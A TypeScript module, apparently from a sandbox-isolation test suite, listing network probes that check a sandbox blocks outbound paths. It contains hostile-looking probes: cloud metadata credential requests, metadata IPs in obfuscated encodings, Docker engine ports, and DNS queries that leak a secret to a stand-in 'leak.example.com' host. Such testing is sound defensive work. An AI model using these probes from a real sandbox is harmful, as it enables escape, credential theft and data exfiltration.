/** Ways to reach something from inside a sandbox, by what Node can do: addresses of every kind, names in every form. */
import {
  LAB_ADDRESSES as AT,
  ENGINE_RESOLVER,
  type Hit,
  LAB_RESOLVER,
  LAB_SOCKET,
  type Zone,
} from "../fakes/lab-words.ts";
import type { Neighbour, Worker } from "./probe-places.ts";
import {
  askHttp,
  askName,
  connectTcp,
  lookUp,
  resolveName,
  sendUdp,
  toQuestion,
  tryScopes,
} from "./probe-works.ts";

export type NetworkProbe = {
  /** What would be reached; each probe has its own. */
  readonly class: string;
  /** How a sandbox may answer. */
  readonly inside: readonly string[];
  /** Where nothing forbids it: in the laboratory's own network, or in a plain container's. */
  readonly from: "host" | "network";
  /** What the control must reach: a sink; the neighbour; what the kernel counts itself; or `answer`, where nothing is sent. */
  readonly sink: Sink | "neighbour" | "ping" | "answer";
  readonly work: (worker: Worker, neighbour: Neighbour) => Promise<string>;
};

type Sink = {
  readonly kind: Hit["kind"];
  readonly address?: string;
  readonly port?: number;
  readonly name?: string;
};

export function isAtSink(hit: Hit, sink: Sink): boolean {
  const name = "name" in hit ? hit.name : undefined;
  return (
    hit.kind === sink.kind &&
    (sink.address === undefined || hit.address === sink.address) &&
    (sink.port === undefined || hit.port === sink.port) &&
    (sink.name === undefined || name === sink.name)
  );
}

/** Names that the laboratory's server knows, so that every probe of names can succeed there. */
export const PROBE_ZONE: Zone = {
  "api.example.com": [AT.public[0], AT.public6[0]],
  "*.leak.example.com": [AT.public[0]],
  "metadata.google.internal": [AT.metadata[0]],
  "host.docker.internal": [AT.hosts[0]],
  "gateway.docker.internal": [AT.gateways[0]],
  "kubernetes.default.svc.cluster.local": [AT.hosts[1]],
  "printer.local": [AT.hosts[3]],
  wpad: [AT.hosts[0]],
};

const AWAY = ["ENETUNREACH"];
const REFUSED = ["ECONNREFUSED"];
const NAMELESS = ["EAI_AGAIN", "ENOTFOUND"];

const tcp = (name: string, host: string, port: number, address = host): NetworkProbe => ({
  ...{ class: `${name} ${host}:${port}`, inside: AWAY, from: "network" },
  ...{ sink: { kind: "tcp", address, port }, work: ({ hand }) => hand.do(connectTcp, host, port) },
});

/** Addresses that every network has for itself: inside there is one too, and nobody listens on it. */
const own = (name: string, host: string, port: number): NetworkProbe => ({
  ...{ class: `${name} ${host}:${port}`, inside: REFUSED, from: "host" },
  ...{ sink: { kind: "tcp", port }, work: ({ hand }) => hand.do(connectTcp, host, port) },
});

const udp = (name: string, host: string, port: number, more: Partial<NetworkProbe> = {}): NetworkProbe => ({
  ...{ class: `${name} ${host}:${port}/udp`, inside: AWAY, from: "network" },
  ...{ sink: { kind: "udp", address: host, port }, work: ({ hand }) => hand.do(sendUdp, host, port) },
  ...more,
});

type Request = {
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
};

const http = (name: string, url: string, address: string, request: Request = {}): NetworkProbe => ({
  ...{ class: `${name} ${url}`, inside: AWAY, from: "network", sink: { kind: "http", address } },
  work: ({ hand }) =>
    hand.do(askHttp, url, request.method ?? "GET", request.headers ?? {}, request.body ?? ""),
});

const lookup = (name: string, what: string, family: 4 | 6 = 4): NetworkProbe => ({
  ...{ class: `${name}: ${what} by getaddrinfo`, inside: NAMELESS, from: "network" },
  ...{ sink: { kind: "dns", name: what }, work: ({ hand }) => hand.do(lookUp, what, family) },
});

const resolver = (name: string, what: string, type: string, servers: readonly string[]): NetworkProbe => ({
  ...{ class: `${name}: ${type} ${what} by c-ares`, inside: REFUSED, from: "network" },
  sink: { kind: "dns", ...(servers[0] === undefined ? {} : { address: servers[0].replace(/^\[|\]$/g, "") }) },
  work: ({ hand }) => hand.do(resolveName, servers, what, type),
});

const question = (over: "udp" | "tcp", server: string, more: Partial<NetworkProbe> = {}): NetworkProbe => ({
  ...{ class: `a name server asked in bytes, ${server} over ${over}`, inside: AWAY, from: "network" },
  sink: { kind: "dns", address: server },
  work: ({ hand }) => hand.do(askName, over, server, toQuestion("secret.leak.example.com")),
  ...more,
});

const TOKEN = { method: "PUT", headers: { "x-aws-ec2-metadata-token-ttl-seconds": "60" } };

const TCP: readonly NetworkProbe[] = [
  ...AT.gateways.map((host) => tcp("a gateway", host, 5432)),
  tcp("a container of another network", AT.containers[0], 8080),
  ...AT.hosts.map((host) => tcp("a host's address", host, 22)),
  tcp("the sidecar's port at a gateway", AT.gateways[0], 8765),
  tcp("the sidecar's port at a host's address", AT.hosts[0], 8765),
  tcp("the engine's port at a gateway", AT.gateways[0], 2375),
  tcp("the engine's port with TLS", AT.hosts[0], 2376),
  ...AT.public.map((host) => tcp("a public address", host, 443)),
  ...AT.documentation.map((host) => tcp("an address for examples", host, 80)),
  tcp("metadata by one number", "2852039166", 80, AT.metadata[0]),
  tcp("metadata in hexadecimal", "0xa9fea9fe", 80, AT.metadata[0]),
  tcp("metadata in octal", "0251.0376.0251.0376", 80, AT.metadata[0]),
  tcp("a host's address with parts left out", "10.5", 22, AT.hosts[0]),
  ...["127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1"].map((host) =>
    own("the sidecar's port", host, 8765),
  ),
  own("the sidecar's port", "localhost", 8765),
  own("the engine's port", "127.0.0.1", 2375),
  {
    ...{ class: "a socket by its name, which has no file", inside: REFUSED, from: "host" },
    ...{ sink: { kind: "unix" }, work: ({ hand }) => hand.do(connectTcp, `\0${LAB_SOCKET}`, 0) },
  },
];

const TCP6: readonly NetworkProbe[] = [
  ...AT.metadata6.map((host) => tcp("metadata by IPv6", host, 80)),
  ...AT.hosts6.map((host) => tcp("a host's address by IPv6", host, 22)),
  ...AT.public6.map((host) => tcp("a public address by IPv6", host, 443)),
  ...AT.wrapped6.map((host) => tcp("an IPv4 address in an IPv6 one", host, 80)),
  tcp("metadata as a mapped address", "::ffff:169.254.169.254", 80, AT.metadata[0]),
  tcp("a host as a mapped address in hexadecimal", "::ffff:a00:5", 22, AT.hosts[0]),
  {
    ...{ class: "a neighbour by a link-local address", inside: ["ENOTFOUND", "EINVAL"], from: "network" },
    sink: { kind: "tcp", port: 2375 },
    work: ({ hand }) => hand.do(tryScopes, "tcp", AT.linkLocal6[0], 2375),
  },
];

const METADATA: readonly NetworkProbe[] = [
  http("AWS: a token", "http://169.254.169.254/latest/api/token", AT.metadata[0], TOKEN),
  http("AWS: a container's credentials", "http://169.254.170.2/v2/credentials/x", AT.metadata[1]),
  http("Google", "http://169.254.169.254/computeMetadata/v1/?recursive=true", AT.metadata[0], {
    headers: { "metadata-flavor": "Google" },
  }),
  http("Azure", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", AT.metadata[0], {
    headers: { metadata: "true" },
  }),
  http("Azure's wire server", "http://168.63.129.16/machine?comp=goalstate", AT.metadata[3]),
  http("Alibaba", "http://100.100.100.200/latest/meta-data/", AT.metadata[2]),
  http("Oracle", "http://192.0.0.192/opc/v1/instance/", AT.metadata[4]),
  http("AWS by IPv6", "http://[fd00:ec2::254]/latest/meta-data/", AT.metadata6[0]),
];

const UDP: readonly NetworkProbe[] = [
  udp("a gateway", AT.gateways[0], 4242),
  udp("a host's address", AT.hosts[0], 4242),
  udp("metadata", AT.metadata[0], 4242),
  udp("a public address", AT.public[1], 4242),
  udp("a public address by IPv6", AT.public6[1], 4242),
  udp("a host's address by IPv6", AT.hosts6[0], 4242),
  udp("QUIC", AT.public[0], 443),
  udp("the time", AT.public[3], 123),
  ...[
    ["mDNS", "224.0.0.251", 5353] as const,
    ["LLMNR", "224.0.0.252", 5355] as const,
    ["SSDP", "239.255.255.250", 1900] as const,
    ["every host of a network", "10.0.0.255", 4242] as const,
  ].map(([name, host, port]) => udp(name, host, port, { from: "host", sink: { kind: "udp", port } })),
  udp("every host near", "255.255.255.255", 4242, { sink: { kind: "udp", address: "*", port: 4242 } }),
  {
    ...{ class: "mDNS by IPv6", inside: AWAY, from: "host" },
    sink: { kind: "udp", address: "*", port: 5353 },
    work: ({ hand }) => hand.do(tryScopes, "udp", "ff02::fb", 5353),
  },
];

const NAMES: readonly NetworkProbe[] = [
  lookup("a public name", "api.example.com"),
  lookup("a public name by IPv6", "api.example.com", 6),
  lookup("a name that tells a secret", "73656372.leak.example.com"),
  lookup("Google's metadata by name", "metadata.google.internal"),
  lookup("the host by name", "host.docker.internal"),
  lookup("a cluster's service", "kubernetes.default.svc.cluster.local"),
  lookup("a neighbour's name", "printer.local"),
  resolver("by its own servers", "api.example.com", "A", []),
  resolver("by its own servers", "73656372.leak.example.com", "TXT", []),
  resolver("by its own servers", "5.0.0.10.in-addr.arpa", "PTR", []),
  resolver("at a gateway", "api.example.com", "A", [AT.gateways[0]]),
  resolver("at a public server", "a.leak.example.com", "CNAME", [AT.public[0]]),
  resolver("at metadata's server", "api.example.com", "A", [AT.metadata[0]]),
  resolver("at a public server by IPv6", "a.leak.example.com", "MX", [`[${AT.public6[0]}]`]),
  { ...resolver("at the system's resolver", "api.example.com", "A", [LAB_RESOLVER]), from: "host" },
  { ...resolver("at the engine's resolver", "api.example.com", "A", [ENGINE_RESOLVER]), from: "host" },
  question("udp", AT.gateways[0]),
  question("udp", AT.public[1]),
  question("udp", AT.public6[1]),
  question("tcp", AT.public[0]),
  question("tcp", AT.hosts[0]),
  question("tcp", LAB_RESOLVER, { from: "host", inside: REFUSED }),
  http("names over HTTPS", "https://1.1.1.1/dns-query", AT.public[1], {
    ...{ method: "POST", headers: { "content-type": "application/dns-message" } },
    body: toQuestion("secret.leak.example.com", "TXT"),
  }),
  {
    ...http("names over HTTPS by name", "https://api.example.com/dns-query?dns=AAAB", AT.public[0]),
    ...{ inside: NAMELESS, sink: { kind: "http", port: 443 } },
  },
  tcp("names over TLS", AT.public[2], 853),
];

const NEIGHBOURS: readonly NetworkProbe[] = [
  {
    ...{ class: "another container", inside: AWAY, from: "network", sink: "neighbour" },
    work: ({ hand }, { address, port }) => hand.do(connectTcp, address, port),
  },
  {
    ...{ class: "another container by UDP", inside: AWAY, from: "network", sink: "neighbour" },
    work: ({ hand }, { address, port }) => hand.do(sendUdp, address, port),
  },
  {
    ...{ class: "another container by IPv6", inside: AWAY, from: "network", sink: "neighbour" },
    work: ({ hand }, { address6, port }) => hand.do(connectTcp, address6, port),
  },
];

export const NETWORK_PROBES: readonly NetworkProbe[] = [
  ...[...TCP, ...TCP6, ...METADATA, ...NEIGHBOURS, ...UDP, ...NAMES],
];
